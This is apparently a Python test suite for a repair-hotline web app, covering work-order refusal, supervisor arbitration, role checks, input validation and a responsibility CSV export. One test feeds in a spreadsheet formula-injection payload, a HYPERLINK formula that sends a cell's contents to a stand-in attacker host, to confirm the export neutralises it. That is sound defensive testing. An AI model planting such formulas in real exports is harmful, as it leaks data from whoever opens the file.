"""Refusal and arbitration over HTTP: invalid input is 422 naming the field and changes nothing;
roles are enforced; the dispatcher records a department's refusal from the board."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from tests.forms import post_form
from tests.harness import running_hotline
from tests.ui.test_field import _dispatch_to, technicians


async def test_refusing_needs_a_known_reason_and_a_note_and_only_a_supervisor_decides(
    database_url: str, tmp_path: Path
) -> None:
    async with running_hotline(database_url, tmp_path) as hotline:
        sup = await hotline.sign_in("sup")
        li, zhang = await technicians(sup)
        order = await _dispatch_to(sup, "空调不制冷", li)
        path = f"/api/work-orders/{order['id']}/refuse"
        for body, field in (
            ({"version": 1, "note": "不归我们"}, "body.reason"),
            ({"version": 1, "reason": "not_ours"}, "body.note"),
            ({"version": 1, "reason": "not_ours", "note": "   "}, "body.note"),
        ):
            reply = await sup.post(path, json=body)
            assert reply.status_code == 422, reply.text
            assert reply.json()["details"][0]["field"] == field
        unknown = await sup.post(path, json={"version": 1, "reason": "lazy", "note": "x"})
        assert unknown.status_code == 422 and "reason" in unknown.json()["message"]
        assert (await sup.get(f"/api/work-orders/{order['id']}")).json()["state"] == "assigned"

        tech = await hotline.sign_in("tech")
        returned = await tech.post(path, json={"version": 1, "reason": "wrong_address", "note": "门牌不存在"})
        assert returned.status_code == 200 and returned.json()["state"] == "returned"
        moved = await sup.put(
            f"/api/work-orders/{order['id']}/technician", json={"version": 2, "technician_id": zhang}
        )
        assert moved.status_code == 200
        tech2 = await hotline.sign_in("tech2")
        again = await tech2.post(path, json={"version": 3, "reason": "not_ours", "note": "不是空调问题"})
        assert again.json()["state"] == "arbitration"

        decide = f"/api/work-orders/{order['id']}/arbitration"
        agent = await hotline.sign_in("1001")
        assert (
            await agent.post(decide, json={"version": 4, "technician_id": li, "note": "x"})
        ).status_code == 403
        assert (await agent.get("/arbitration", follow_redirects=False)).status_code in (303, 403)
        no_note = await sup.post(decide, json={"version": 4, "technician_id": li})
        assert no_note.status_code == 422 and no_note.json()["details"][0]["field"] == "body.note"
        final = await sup.post(decide, json={"version": 4, "technician_id": li, "note": "归维修部"})
        assert final.status_code == 200 and final.json()["final"] is True
        refused = await tech.post(path, json={"version": 5, "reason": "not_ours", "note": "还是不归我们"})
        assert refused.status_code == 409 and refused.json()["error_id"] == "refusal_not_allowed"
        for client in (sup, tech, tech2, agent):
            await client.aclose()


async def test_the_dispatcher_records_a_department_refusal_on_the_board(
    database_url: str, tmp_path: Path
) -> None:
    async with running_hotline(database_url, tmp_path) as hotline:
        sup = await hotline.sign_in("sup")
        li, _zhang = await technicians(sup)
        order = await _dispatch_to(sup, "水管漏水", li)
        page = await sup.get("/dispatch")
        assert f'id="bo-{order["id"]}-refuse"' in page.text
        action = f"/dispatch/orders/{order['id']}/refuse"
        blank = await post_form(sup, action, {"version": "1", "reason": "needs_parts"}, page="/dispatch")
        assert blank.status_code == 422 and "说明" in blank.text
        fields = {"version": "1", "reason": "needs_parts", "note": "维修部电话：缺阀门"}
        done = await post_form(sup, action, fields, page="/dispatch")
        assert done.status_code == 303
        board = await sup.get("/dispatch")
        assert (
            'id="returned"' in board.text and "维修部电话：缺阀门" in board.text and "需先备件" in board.text
        )
        csv_reply = await sup.get("/responsibility.csv")
        assert csv_reply.status_code == 200 and csv_reply.text.startswith("\ufeff")
        await sup.aclose()


async def test_the_responsibility_csv_quotes_a_name_a_spreadsheet_would_run_as_a_formula(
    database_url: str, tmp_path: Path
) -> None:
    """Department and technician names are typed by people: `=HYPERLINK(...)` must open as text."""
    async with running_hotline(database_url, tmp_path) as hotline:
        sup = await hotline.sign_in("sup")
        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
        dept = (await sup.post("/api/departments", json={"code": "f1", "name": formula})).json()
        tech = await sup.post(
            "/api/technicians",
            json={"name": "@SUM(1+1)", "phone": "13800138009", "department_id": dept["id"]},
        )
        assert tech.status_code == 201, tech.text
        await _dispatch_to(sup, "漏水", tech.json()["id"])
        rows = list(csv.reader(io.StringIO((await sup.get("/responsibility.csv")).text.lstrip("\ufeff"))))
        names = [row[1] for row in rows[1:]]
        assert "'" + formula in names and "'@SUM(1+1)" in names, rows
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
        await sup.aclose()


async def test_the_responsibility_csv_refuses_a_period_it_cannot_read_naming_the_field(
    database_url: str, tmp_path: Path
) -> None:
    """The page says so and shows the last 30 days; a file has nowhere to say it: 422, as the reports' CSV."""
    async with running_hotline(database_url, tmp_path) as hotline:
        sup = await hotline.sign_in("sup")
        for query, field in (
            ("from=bogus", "from"),
            ("to=2026-13-01", "to"),
            ("from=2026-12-02&to=2026-12-01", "to"),
        ):
            reply = await sup.get(f"/responsibility.csv?{query}")
            assert reply.status_code == 422, (query, reply.text[:200])
            assert reply.json()["details"][0]["field"] == field
        assert (await sup.get("/responsibility.csv?from=2026-11-01T00:00")).status_code == 200
        await sup.aclose()
